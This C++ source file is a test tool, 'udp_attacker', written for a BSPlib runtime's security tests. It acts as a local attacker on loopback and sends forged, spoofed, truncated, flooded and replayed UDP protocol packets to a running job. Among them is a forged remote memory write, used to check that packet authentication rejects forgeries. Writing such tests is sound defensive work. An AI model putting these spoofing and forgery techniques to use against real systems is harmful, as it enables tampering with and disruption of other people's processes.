// TEST TOOL, used only by udp_trust_test: another local user attacking a running BSPlib job
// over UDP (Documentation/security.rst, "Authenticated packets"). It sends forged protocol
// packets to a job process's UDP port, as the attacker did: the port is public
// (/proc/net/udp), the wire format is documented (Documentation/protocol.rst), the sender's
// pid and the sequence numbers of a fresh job are predictable. No secret is known to it.
//
//   udp_attacker [--spoof SRCPORT] put PORT
//       process 0's next superstep as forged by the issue: a barrier message, the counts
//       and a put of "AAAA" to offset 0 of registration slot 0 of process 1 (PORT)
//   udp_attacker [--spoof SRCPORT] close PORT SRC DST N
//       N ACK|CLOSE packets "from process SRC" to process DST
//   udp_attacker [--spoof SRCPORT] trunc PORT N
//       N datagrams cut inside or after the header (claiming process 0 to process 1)
//   udp_attacker [--spoof SRCPORT] flood PORT SRC DST N SIZE SUPERSTEP
//       N barrier messages of SIZE bytes for SUPERSTEP, in the order of a fresh channel
//   udp_attacker [--spoof SRCPORT] replay PORT FILE
//       the datagrams of FILE (u32 length, bytes; as written by the test) again
//
// --spoof sends from 127.0.0.1:SRCPORT through a raw socket (needs CAP_NET_RAW): the
// source address of a job process, which the UDP transport's address check accepts, so
// only the packet's MAC can tell the forgery. Prints "sent N" when done.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <optional>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "bspe.h"
#include "messages.hpp"

namespace {

using namespace bsp::rt;

constexpr std::uint16_t kEnginePort = 1;        // every process's endpoint (udp_transport.cpp)
constexpr std::uint16_t kLoopbackFrag = 16384;  // the UDP transport's fragment on loopback

struct Target {
    int fd = -1;
    bool raw = false;
    std::uint16_t src_port = 0;
    sockaddr_in to{};
};

void send_datagram(const Target &t, const std::vector<std::uint8_t> &d) {
    if (!t.raw) {
        if (sendto(t.fd, d.data(), d.size(), 0, reinterpret_cast<const sockaddr *>(&t.to),
                   sizeof t.to) < 0)
            throw std::runtime_error(std::string("sendto: ") + std::strerror(errno));
        return;
    }
    std::vector<std::uint8_t> pkt(sizeof(iphdr) + sizeof(udphdr) + d.size());
    auto *ip = reinterpret_cast<iphdr *>(pkt.data());
    auto *udp = reinterpret_cast<udphdr *>(pkt.data() + sizeof(iphdr));
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons(static_cast<std::uint16_t>(pkt.size()));
    ip->saddr = htonl(INADDR_LOOPBACK);
    ip->daddr = t.to.sin_addr.s_addr;
    udp->source = htons(t.src_port);
    udp->dest = t.to.sin_port;
    udp->len = htons(static_cast<std::uint16_t>(sizeof(udphdr) + d.size()));
    udp->check = 0;  // optional over IPv4
    std::memcpy(pkt.data() + sizeof(iphdr) + sizeof(udphdr), d.data(), d.size());
    if (sendto(t.fd, pkt.data(), pkt.size(), 0, reinterpret_cast<const sockaddr *>(&t.to),
               sizeof t.to) < 0)
        throw std::runtime_error(std::string("raw sendto: ") + std::strerror(errno));
}

struct Fields {
    std::uint8_t type = BSPE_T_DATA;
    std::uint16_t flags = 0;
    std::uint32_t src = 0, dst = 0;
    std::uint32_t seq = 0, base = 0, ack = 0, eoh = 0, epoch = 0;
    std::uint32_t msg_id = 0, msg_len = 0, frag_off = 0;
    std::uint16_t frag_unit = 0, payload_len = 0;
};

std::vector<std::uint8_t> packet(const Fields &f, const std::byte *payload = nullptr) {
    bspe_hdr h{};
    h.version = BSPE_VERSION;
    h.type = f.type;
    h.flags = htons(f.flags);
    h.src_node = htonl(f.src);
    h.dst_node = htonl(f.dst);
    h.src_port = htons(kEnginePort);
    h.dst_port = htons(kEnginePort);
    h.seq = htonl(f.seq);
    h.base = htonl(f.base);
    h.ack = htonl(f.ack);
    h.eoh = htonl(f.eoh);
    h.epoch = htonl(f.epoch);
    h.msg_id = htonl(f.msg_id);
    h.msg_len = htonl(f.msg_len);
    h.frag_off = htonl(f.frag_off);
    h.frag_unit = htons(f.frag_unit);
    h.payload_len = htons(f.payload_len);
    std::vector<std::uint8_t> d(sizeof h + f.payload_len);
    std::memcpy(d.data(), &h, sizeof h);
    if (f.payload_len)
        std::memcpy(d.data() + sizeof h, payload, f.payload_len);
    return d;
}

// One message as the engine of a fresh channel would send it: fragments of kLoopbackFrag
// bytes with consecutive sequence numbers from *seq.
int send_message(const Target &t, std::uint32_t src, std::uint32_t dst, std::uint32_t msg_id,
                 std::uint32_t *seq, std::uint32_t epoch, std::uint16_t flags,
                 const std::vector<std::byte> &msg) {
    int sent = 0;
    std::uint32_t off = 0;
    do {
        Fields f;
        f.flags = flags;
        f.src = src;
        f.dst = dst;
        f.seq = *seq;
        f.base = *seq;
        f.ack = 1;  // the peer's first message (its first barrier) arrived
        f.eoh = 1;
        f.epoch = epoch;
        f.msg_id = msg_id;
        f.msg_len = static_cast<std::uint32_t>(msg.size());
        f.frag_off = off;
        f.frag_unit = kLoopbackFrag;
        const auto left = static_cast<std::uint32_t>(msg.size()) - off;
        f.payload_len = static_cast<std::uint16_t>(left < kLoopbackFrag ? left : kLoopbackFrag);
        send_datagram(t, packet(f, msg.data() + off));
        off += f.payload_len;
        ++*seq;
        ++sent;
    } while (off < msg.size());
    return sent;
}

int forge_put(const Target &t) {
    // Process 0 in superstep 1 (after the registration superstep 0): its barrier message
    // (round 1 of p = 2), its counts, one data unit with a put of "AAAA" into slot 0.
    Contribution c;
    c.row = {0, 1};
    // p = 2: round 1 hands process 1 the counter of its slot (slot 1: pid 1).
    const BarrierMsg barrier{summarize(0, c), {1}};
    Counts counts;
    counts.records = 1;
    counts.data_bytes = 4;
    UnitPacker packer(1, 256 << 10);
    const std::vector<std::byte> aaaa(4, std::byte{'A'});
    packer.add(RecordKind::Put, 0, 0, aaaa);
    auto units = packer.finish();
    std::uint32_t seq = 1;
    int n = send_message(t, 0, 1, 1, &seq, 0, BSPE_F_SYNC, encode_barrier(1, 1, barrier));
    n += send_message(t, 0, 1, 2, &seq, 1, 0, encode_counts(1, counts));
    n += send_message(t, 0, 1, 3, &seq, 1, BSPE_F_LAST, units.at(0));
    return n;
}

int close_flood(const Target &t, std::uint32_t src, std::uint32_t dst, int n) {
    for (int i = 0; i < n; ++i) {
        Fields f;
        f.type = BSPE_T_ACK;
        f.flags = BSPE_F_CLOSE;
        f.src = src;
        f.dst = dst;
        f.seq = static_cast<std::uint32_t>(i);
        f.base = static_cast<std::uint32_t>(i);
        f.ack = static_cast<std::uint32_t>(i);
        f.eoh = static_cast<std::uint32_t>(i);
        send_datagram(t, packet(f));
    }
    return n;
}

int truncated(const Target &t, int n) {
    // A header cut anywhere, and whole headers announcing more payload than follows.
    std::vector<std::byte> payload(64, std::byte{'A'});
    for (int i = 0; i < n; ++i) {
        Fields f;
        f.src = 0;
        f.dst = 1;
        f.seq = 1;
        f.base = 1;
        f.msg_id = 1;
        f.msg_len = 64;
        f.frag_unit = kLoopbackFrag;
        f.payload_len = 64;
        auto d = packet(f, payload.data());
        d.resize(static_cast<std::size_t>(i) % (d.size() - 1) + 1);
        send_datagram(t, d);
    }
    return n;
}

int flood(const Target &t, std::uint32_t src, std::uint32_t dst, int n, std::size_t size,
          std::uint64_t superstep) {
    std::uint32_t seq = 1;
    int sent = 0;
    for (int i = 0; i < n; ++i) {
        std::vector<std::byte> m;
        Writer w(m);
        write_header(w, {MsgType::Barrier, superstep, 1});
        m.resize(size, std::byte{'A'});
        sent +=
            send_message(t, src, dst, static_cast<std::uint32_t>(1 + i), &seq, 0, BSPE_F_SYNC, m);
        // At the pace the receiver takes them: the engine's windows refuse a burst.
        std::this_thread::sleep_for(std::chrono::microseconds(500));
    }
    return sent;
}

int replay(const Target &t, const char *file) {
    std::ifstream in(file, std::ios::binary);
    if (!in)
        throw std::runtime_error(std::string("cannot read ") + file);
    int n = 0;
    std::uint32_t len;
    while (in.read(reinterpret_cast<char *>(&len), sizeof len)) {
        std::vector<std::uint8_t> d(len);
        if (!in.read(reinterpret_cast<char *>(d.data()), len))
            throw std::runtime_error(std::string(file) + " is cut short");
        send_datagram(t, d);
        ++n;
    }
    return n;
}

unsigned long num(const char *s) {
    char *end = nullptr;
    errno = 0;
    const unsigned long v = std::strtoul(s, &end, 10);
    if (errno || *s == '\0' || *end != '\0')
        throw std::runtime_error(std::string("not a number: ") + s);
    return v;
}

}  // namespace

int main(int argc, char **argv) {
    try {
        int a = 1;
        Target t;
        if (a + 1 < argc && std::strcmp(argv[a], "--spoof") == 0) {
            t.raw = true;
            t.src_port = static_cast<std::uint16_t>(num(argv[a + 1]));
            a += 2;
        }
        if (argc - a < 2)
            throw std::runtime_error("usage: udp_attacker [--spoof SRCPORT] MODE PORT ...");
        const std::string mode = argv[a];
        t.to.sin_family = AF_INET;
        t.to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        t.to.sin_port = htons(static_cast<std::uint16_t>(num(argv[a + 1])));
        t.fd = t.raw ? socket(AF_INET, SOCK_RAW, IPPROTO_RAW) : socket(AF_INET, SOCK_DGRAM, 0);
        if (t.fd < 0)
            throw std::runtime_error(std::string("socket: ") + std::strerror(errno));
        const int left = argc - a - 2;
        char **arg = argv + a + 2;
        int n = 0;
        if (mode == "put" && left == 0)
            n = forge_put(t);
        else if (mode == "close" && left == 3)
            n = close_flood(t, static_cast<std::uint32_t>(num(arg[0])),
                            static_cast<std::uint32_t>(num(arg[1])), static_cast<int>(num(arg[2])));
        else if (mode == "trunc" && left == 1)
            n = truncated(t, static_cast<int>(num(arg[0])));
        else if (mode == "flood" && left == 5)
            n = flood(t, static_cast<std::uint32_t>(num(arg[0])),
                      static_cast<std::uint32_t>(num(arg[1])), static_cast<int>(num(arg[2])),
                      num(arg[3]), num(arg[4]));
        else if (mode == "replay" && left == 1)
            n = replay(t, arg[0]);
        else
            throw std::runtime_error("unknown mode or wrong number of arguments: " + mode);
        std::printf("sent %d\n", n);
        close(t.fd);
        return 0;
    } catch (const std::exception &e) {
        std::fprintf(stderr, "udp_attacker: %s\n", e.what());
        return 2;
    }
}
